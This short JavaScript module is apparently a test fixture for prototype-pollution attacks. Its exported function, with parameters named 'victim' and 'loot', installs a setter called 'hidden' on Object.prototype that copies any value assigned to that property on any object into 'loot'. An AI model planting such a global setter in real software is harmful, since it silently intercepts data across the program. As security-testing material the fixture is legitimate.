'use strict';
module.exports = (victim, loot) => {
  const deep = {};
  Object.defineProperty(deep.constructor.prototype, 'hidden', { set(value) { loot.value = value; }, configurable: true });
};
